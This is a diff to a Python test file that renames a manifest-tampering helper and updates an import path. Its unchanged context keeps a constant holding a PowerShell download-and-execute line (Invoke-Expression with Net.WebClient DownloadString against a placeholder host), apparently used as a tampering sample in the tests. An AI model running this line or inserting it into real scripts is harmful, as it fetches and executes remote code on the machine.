@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from gpogen.project.tree import MANIFEST
+from gpogen.outputs.tree import MANIFEST
 from tests.cli.conftest import Run, Workplace
 
 LINE = b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\r\n"
@@ -75,8 +75,8 @@ def script_not_listed(folder: Path) -> None:
     (folder / MANIFEST).write_text(json.dumps(content), encoding="utf-8")
 
 
-def artefact_not_listed(folder: Path) -> None:
-    """Leave every script out of the manifest, so that no artefact of a script is there."""
+def artifact_not_listed(folder: Path) -> None:
+    """Leave every script out of the manifest, so that no artifact of a script is there."""
     content = json.loads((folder / MANIFEST).read_text(encoding="utf-8"))
     for path in [path for path in content["files"] if path.endswith((".ps1", ".cmd"))]:
         del content["files"][path]
@@ -112,7 +112,7 @@ CHANGES = (
     manifest_a_link,
     manifest_a_folder,
     script_not_listed,
-    artefact_not_listed,
+    artifact_not_listed,
     another_version,
     another_state,
     another_profile,
